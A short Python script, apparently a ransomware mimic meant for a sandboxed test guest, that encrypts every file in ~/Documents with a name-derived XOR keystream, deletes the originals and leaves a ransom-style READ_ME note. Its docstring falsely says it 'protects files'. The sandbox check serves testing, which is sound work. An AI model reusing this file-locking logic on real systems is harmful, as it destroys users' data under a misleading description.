"""Protects files."""

import hashlib
import os

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
folder = os.path.expanduser("~/Documents")
for name in sorted(os.listdir(folder)):
    path = os.path.join(folder, name)
    with open(path, "rb") as file:
        data = file.read()
    stream = hashlib.shake_256(b"mimic" + name.encode()).digest(len(data))
    with open(path + ".locked", "wb") as file:
        file.write(bytes(a ^ b for a, b in zip(data, stream)))
    os.unlink(path)
with open(os.path.join(folder, "READ_ME.txt"), "w") as file:
    file.write("A mimic locked these decoys.\n")
